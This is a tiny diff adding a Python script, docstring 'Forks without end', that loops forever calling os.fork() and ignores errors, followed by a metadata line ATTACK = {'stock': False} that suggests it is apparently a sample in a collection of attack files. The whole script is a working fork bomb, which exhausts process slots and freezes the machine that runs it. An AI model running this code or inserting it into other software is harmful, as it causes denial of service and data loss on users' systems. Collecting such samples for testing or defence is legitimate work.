@@ -1,0 +1,12 @@
+"""Forks without end."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+
+
+ATTACK = {"stock": False}
